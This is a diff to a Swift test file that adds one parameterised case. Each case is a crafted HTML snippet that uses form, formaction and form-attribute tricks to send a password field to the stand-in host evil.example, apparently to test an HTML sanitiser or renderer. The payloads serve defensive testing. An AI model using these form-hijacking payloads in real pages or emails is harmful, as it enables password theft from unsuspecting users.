@@ -219,6 +219,7 @@ import Testing
         "<button form=f formaction=http://evil.example/></button><form id=f><input name=pw type=password></form>",
         "<!--[if mso]><form id=f></form><![endif]--><form id=f><input name=pw></form><button form=f formaction=http://evil.example/>",
         "<form action=http://evil.example/><!--[if mso]></form>x<![endif]--><input name=pw type=password></form>",
+        "<form id=f action=http://evil.example/></form><form><input form=f name=pw type=password></form>",
         "<form><input name=pw><button form=none formaction=http://evil.example/></form>",
     ])
     func buttonsShowTheSecret(html: String) {
